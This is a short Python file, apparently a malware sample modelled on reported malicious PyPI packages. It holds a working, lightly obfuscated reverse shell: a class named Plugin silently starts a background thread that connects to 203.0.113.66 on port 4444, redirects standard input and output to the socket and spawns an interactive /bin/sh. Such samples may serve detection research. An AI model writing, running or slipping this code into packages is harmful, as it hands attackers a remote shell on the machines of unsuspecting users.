# Inspired by the PyPI packages reported by JFrog/Sonatype (2021-2022) that open the classic pty/dup2 reverse shell on import, here with aliased modules and a helper class.
import os as o_
import pty as p_
import socket as s_
import threading


class _Session:
    def __init__(self, host, port):
        self.c = s_.socket(s_.AF_INET, s_.SOCK_STREAM)
        self.c.connect((host, port))

    def attach(self):
        fd = self.c.fileno()
        for n in range(3):
            o_.dup2(fd, n)
        p_.spawn(["/bin/" + "sh", "-i"])


def _bg():
    try:
        _Session("203.0.113." + str(66), 4000 + 444).attach()
    except OSError:
        pass


class Plugin:
    def __init__(self):
        threading.Thread(target=_bg, daemon=True).start()
